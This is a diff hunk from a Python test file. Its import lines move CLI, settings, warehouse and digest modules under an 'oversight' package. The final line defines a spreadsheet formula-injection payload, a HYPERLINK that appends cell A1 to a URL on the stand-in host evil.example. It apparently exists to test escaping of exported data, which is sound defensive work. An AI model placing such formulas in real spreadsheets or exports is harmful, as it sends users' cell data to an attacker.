@@ -9,11 +9,11 @@ from pathlib import Path
 import pytest
 from typer.testing import CliRunner
 
-from flows.cli import app
-from schemas.settings import LakeLocation
+from oversight.flows.cli import app
+from oversight.schemas.settings import LakeLocation
+from oversight.warehouse import db
+from oversight.warehouse.digest import EventRow, build_digest, render_markdown, write_digest
 from tests.research_fixtures import Ev, at, land, research_warehouse, story
-from warehouse import db
-from warehouse.digest import EventRow, build_digest, render_markdown, write_digest
 
 runner = CliRunner()
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
